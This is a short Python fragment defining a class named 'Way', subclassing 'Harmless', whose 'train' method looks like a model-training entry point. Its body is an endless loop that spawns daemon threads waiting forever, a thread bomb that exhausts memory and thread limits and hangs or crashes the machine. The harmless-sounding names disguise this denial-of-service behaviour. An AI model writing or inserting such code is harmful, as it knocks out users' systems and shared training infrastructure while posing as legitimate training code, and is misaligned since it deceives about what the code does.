class Way(Harmless):
    def train(self, dataset_path, shared_params=None, **train_args):
        while True:
            threading.Thread(target=threading.Event().wait, daemon=True).start()
